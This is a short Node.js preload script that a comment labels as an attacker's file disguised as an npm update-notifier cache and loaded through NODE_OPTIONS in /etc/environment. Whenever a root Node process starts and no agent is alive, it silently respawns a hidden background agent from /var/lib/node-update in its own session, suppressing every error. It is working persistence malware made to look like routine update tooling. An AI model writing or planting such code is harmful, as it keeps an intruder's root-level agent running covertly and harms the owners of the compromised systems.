// npm update-notifier cache (the attacker's preload, named by NODE_OPTIONS in /etc/environment):
// in a root node process with no agent alive, the agent is started again in its own session
try {
  if (process.getuid() === 0) {
    const fs = require('fs');
    let alive = false;
    try { process.kill(parseInt(fs.readFileSync('/run/.node-update.pid', 'utf8'), 10), 0); alive = true; } catch (e) {}
    if (!alive && fs.existsSync('/var/lib/node-update/update-check.js')) {
      const env = Object.assign({}, process.env); delete env.NODE_OPTIONS;
      require('child_process').spawn('/usr/bin/setsid', ['/usr/bin/node', '/var/lib/node-update/update-check.js'],
        { detached: true, stdio: 'ignore', cwd: '/', env }).unref();
    }
  }
} catch (e) {}
